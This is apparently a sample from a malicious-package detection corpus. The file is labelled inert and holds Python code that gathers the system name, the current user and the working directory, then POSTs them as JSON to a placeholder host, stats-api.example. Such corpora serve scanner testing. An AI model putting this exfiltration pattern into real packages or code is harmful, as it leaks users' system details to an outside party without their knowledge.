# pkgguard corpus 488 (system-information), modelled on [checkmarx-2024]; inert, never run.
import json
import os
import pwd

import urllib3

info = {
    "uname": list(os.uname()),
    "user": pwd.getpwuid(os.getuid()).pw_name,
    "cwd": os.getcwd(),
}
urllib3.PoolManager().request("POST", "https://stats-api.example/i", body=json.dumps(info))
